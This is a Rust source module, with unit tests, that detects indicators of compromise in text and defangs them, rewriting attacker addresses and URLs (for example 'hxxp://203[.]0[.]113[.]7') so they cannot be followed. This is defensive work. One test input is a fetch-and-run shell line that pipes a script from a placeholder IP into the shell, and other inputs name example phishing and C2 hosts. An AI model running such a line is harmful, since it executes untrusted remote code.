//! Indicators of compromise: addresses of an attack, and their defanged form that cannot be followed by accident:
//! `hxxp://evil[.]host`, `203[.]0[.]113[.]7`.

mod scan;
mod sentence;
mod stems;
mod version;

use std::ops::Range;

use super::hosts::{self, Address};
use crate::check::issue_text::{Link, Mark, Passage};
use crate::check::rule::Context;
use scan::{Form, Shape};

/// Reason to defang an address.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(in crate::check) enum Why {
    /// Only a part is defanged.
    Half,
    /// It is an IP address.
    Number,
    /// It is a Tor service.
    Onion,
    /// It is below a tunnel or dynamic DNS service.
    Tunnel,
    /// It is a download of a program.
    Program,
    /// The sentence names it as an attacker's.
    Attack,
}

/// An address that is not defanged.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(in crate::check) struct Indicator {
    /// Range in the text.
    pub(in crate::check) range: Range<usize>,
    /// Reason to defang it.
    pub(in crate::check) why: Why,
    /// Range of the host.
    pub(in crate::check) host: Range<usize>,
    /// Replacements that defang it.
    pub(in crate::check) edits: Vec<(Range<usize>, String)>,
}

impl Indicator {
    /// Returns a part of the text with the indicator defanged.
    pub(in crate::check) fn defanged(&self, text: &str, part: Range<usize>) -> String {
        let (mut out, mut done) = (String::new(), part.start);
        for (range, other) in &self.edits {
            out.push_str(&text[done..range.start]);
            out.push_str(other);
            done = range.end;
        }
        out.push_str(&text[done..part.end]);
        out
    }
}

/// Returns the indicators of a text that are not defanged.
pub(in crate::check) fn find(text: &str) -> Vec<Indicator> {
    scan::shapes(text).into_iter().filter_map(|shape| judge(text, &shape)).collect()
}

/// Returns `true` for a bare link that is an indicator in its text: it should not be a link.
pub(in crate::check) fn is_written_as(link: &Link, context: &Context<'_>) -> bool {
    if !link.role.is_body_text() || !(link.is_bare || link.text == link.target) {
        return false;
    }
    let at = link.text_at;
    context.issue_text.enclosing(at).filter(|passage| passage.role.is_body_text()).is_some_and(|passage| {
        // Marks are in the order of their ends.
        let first = passage.marks.partition_point(|(range, _)| passage.span(range.clone()).end < at.end);
        let marks = passage.marks.iter().skip(first);
        let spans = marks.map(|(range, mark)| (range, mark, passage.span(range.clone())));
        let mut ending = spans.take_while(|(.., span)| span.end == at.end);
        let own = ending.find(|(_, mark, span)| matches!(mark, Mark::Link(_)) && *span == at);
        own.is_some_and(|(range, ..)| holds_one(&passage.text, range))
    })
}

/// Returns `true` if an indicator begins in a part of a text.
fn holds_one(text: &str, part: &Range<usize>) -> bool {
    /// Bytes around a link that belong to its address; a longer word is data.
    const BESIDE: usize = 300;
    let first = text.ceil_char_boundary(part.start.saturating_sub(BESIDE));
    let last = text.floor_char_boundary(part.end.saturating_add(BESIDE));
    let start = text[first..part.start].rfind(char::is_whitespace).map_or(first, |blank| first + blank);
    let end = text[part.end..last].find(char::is_whitespace).map_or(last, |blank| part.end + blank);
    let shapes = scan::shapes_within(text, start..end).into_iter();
    let mut inside = shapes.filter(|shape| part.contains(&shape.range.start));
    inside.any(|shape| judge(text, &shape).is_some())
}

/// Returns `true` if a link leads to another address than its text shows, so that the indicator is not followed.
pub(in crate::check) fn is_led_away(passage: &Passage, indicator: &Indicator) -> bool {
    let Some(Mark::Link(target)) = passage.mark_at(indicator.range.start) else { return false };
    let host = passage.text[indicator.host.clone()].to_lowercase();
    Address::parse(target).is_none_or(|address| address.host() != host)
}

fn judge(text: &str, shape: &Shape) -> Option<Indicator> {
    let written = &text[shape.host.clone()];
    let host = written.to_lowercase();
    let number = hosts::ip(if shape.form == Form::Six { "" } else { &host }).or_else(|| host.parse().ok());
    let is_url = shape.scheme.is_some();
    // Names for examples are never suspicious, whatever is said of them.
    if hosts::is_reserved(&host) {
        return None;
    }
    let sentence = sentence::Sentence::around(text, &shape.range);
    let why = match shape.form {
        Form::Half => Why::Half,
        Form::Name | Form::Four | Form::Six => match number {
            Some(ip) if !hosts::is_public(ip) => return None,
            Some(ip) => {
                let familiar = ["8.8.8.8", "8.8.4.4", "1.1.1.1", "1.0.0.1", "9.9.9.9", "168.126.63.1"];
                if !is_url && (familiar.contains(&host.as_str()) || version::is_version(&sentence, ip)) {
                    return None;
                }
                Why::Number
            }
            None if hosts::is_onion(&host) && !sentence.asks_for_letters() => Why::Onion,
            None if hosts::has_tunnel(&host) => Why::Tunnel,
            None => by_words(text, shape, &host, &sentence)?,
        },
    };
    let edits = edits(text, shape);
    (!edits.is_empty()).then(|| Indicator {
        range: shape.range.clone(),
        why,
        host: shape.host.clone(),
        edits,
    })
}

/// Returns the reason that the file name or the words around give for an ordinary host.
fn by_words(text: &str, shape: &Shape, host: &str, sentence: &sentence::Sentence<'_>) -> Option<Why> {
    let is_url = shape.scheme.is_some();
    let path = &text[shape.host.end..shape.range.end];
    let path = path.split(['?', '#']).next().unwrap_or_default().to_lowercase();
    let is_program =
        path.contains('/') && scan::PROGRAMS.split_ascii_whitespace().any(|end| path.ends_with(end));
    let in_question = if is_url { !sentence::is_public_office(host) } else { !sentence::is_familiar(host) };
    if in_question && sentence.calls_it_an_attack() {
        return Some(Why::Attack);
    }
    (is_program && (sentence.speaks_of_attack() || is_url)).then_some(Why::Program)
}

fn edits(text: &str, shape: &Shape) -> Vec<(Range<usize>, String)> {
    let mut edits = Vec::new();
    if let Some(scheme) = &shape.scheme {
        let written = &text[scheme.clone()];
        let dull = written.replace("tt", "xx").replace("TT", "XX").replace("Tt", "Xx").replace("ft", "fx");
        if dull != written {
            edits.push((scheme.clone(), dull));
        }
    }
    let host = &text[shape.host.clone()];
    let dull = match shape.form {
        Form::Six => host.replace(':', "[:]"),
        Form::Half if host.contains(['[', '(']) => host.to_owned(),
        _ if host.starts_with('[') => format!("[{}]", host.trim_matches(['[', ']']).replace(':', "[:]")),
        _ => host.replace('.', "[.]"),
    };
    if dull != host {
        edits.push((shape.host.clone(), dull));
    }
    edits
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Returns the indicators of a text, each defanged.
    fn dull(text: &str) -> Vec<(Why, String)> {
        find(text).iter().map(|found| (found.why, found.defanged(text, found.range.clone()))).collect()
    }

    #[test]
    fn live_indicators_are_defanged() {
        let cases = [
            ("It calls 203.0.113.7 every hour.", Why::Number, "203[.]0[.]113[.]7"),
            ("(198.51.100.23:8443)", Why::Number, "198[.]51[.]100[.]23:8443"),
            ("주소는 203.0.113.7입니다", Why::Number, "203[.]0[.]113[.]7"),
            ("The server 2001:db8::7, too", Why::Number, "2001[:]db8[:][:]7"),
            ("see http://203.0.113.7/a.b?c.", Why::Number, "hxxp://203[.]0[.]113[.]7/a.b?c"),
            ("http://[2001:db8::7]/x", Why::Number, "hxxp://[2001[:]db8[:][:]7]/x"),
            ("HTTPS://203.0.113.7에서", Why::Number, "HXXPS://203[.]0[.]113[.]7"),
            ("curl -s http://203.0.113.7/x.sh|sh", Why::Number, "hxxp://203[.]0[.]113[.]7/x.sh"),
            ("hxxp://evil.internal/a.b", Why::Half, "hxxp://evil[.]internal/a.b"),
            ("http://evil[.]internal/a", Why::Half, "hxxp://evil[.]internal/a"),
            ("at update.duckdns.org now", Why::Tunnel, "update[.]duckdns[.]org"),
            (
                "The malware hid in https://evil.internal/a/setup.exe, they say",
                Why::Program,
                "hxxps://evil[.]internal/a/setup.exe",
            ),
            (
                "The phishing page at https://bank.internal/login asks",
                Why::Attack,
                "hxxps://bank[.]internal/login",
            ),
            ("Later it updated itself from 203.0.113.7.", Why::Number, "203[.]0[.]113[.]7"),
            ("The malware connects to harbour-cdn.com", Why::Attack, "harbour-cdn[.]com"),
            ("its C2 server, harbour-cdn.com, was seized", Why::Attack, "harbour-cdn[.]com"),
            ("피싱 사이트 harbour-login.com은", Why::Attack, "harbour-login[.]com"),
            ("harbour-cdn.com에서 악성코드를 내려받는다", Why::Attack, "harbour-cdn[.]com"),
        ];
        for (text, why, expected) in cases {
            assert_eq!(dull(text), [(why, expected.to_owned())], "{text}");
        }
        let onion = format!("posted at {}.onion", "a2b3".repeat(14));
        assert_eq!(dull(&onion)[0].0, Why::Onion);
    }

    #[test]
    fn defanged_indicators_are_not_reported() {
        for text in [
            "hxxp://evil[.]example/a.b",
            "hXXps[:]//evil[.]example",
            "203[.]0[.]113[.]7",
            "203.0.113[.]7",
            "the malicious domain evil[.]com",
            "evil(dot)com and evil{.}com",
        ] {
            assert_eq!(dull(text), [], "{text}");
        }
    }

    #[test]
    fn ordinary_words_are_not_indicators() {
        for text in [
            "Chrome 107.0.5304.121 and Ivanti 22.2.4.1 are out",
            "The flaw was fixed in 22.2.4.14, and build 203.0.113.7 has it too",
            "Upgrade to 203.0.113.7 at once",
            "Hackers sent malware to harbour-shop.co.kr and found ransomware on harbour-mail.com",
            "A guide to phishing sites was published at https://lantern.example/guide",
            "Read more about the phishing site at https://lantern.example/story",
            "version 10.0.2.15",
            "Section 3.2.1.4 of the rules",
            "PCI DSS 12.3.1.1 asks for it",
            "Update to 22.2.4.14 or later",
            "16.1.2.3 버전 이하",
            "127.0.0.1, 192.168.0.1, 10.1.2.3 and 0.0.0.0",
            "use 8.8.8.8 instead",
            "203.0.113.0/24",
            "at 12:30:45, std::net, 00:1A:2B:3C:4D:5E",
            "Booking.com customers were targets of phishing",
            "Malware was hosted on github.com for a day",
            "Phishing can be reported at https://reports.lantern.example/form",
            "Read more about phishing at https://lantern.example/phishing",
            "피싱 신고: https://lantern.example/report",
            "피싱 신고 사이트 report-it.com에서 신고",
            "naver.com을 사칭한 피싱 사이트가 나왔다",
            "naver.com으로 위장한 피싱 사이트",
            "a phishing page that imitates lantern-bank.com",
            "Download it at https://lantern.example/tools/setup.exe",
            "run setup.exe",
            "the malicious domain login.lantern.example",
            "Send us tips through SecureDrop at aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.onion",
            "desk@203.0.113.7",
            "2022.11.18.",
        ] {
            assert_eq!(dull(text), [], "{text}");
        }
    }
}
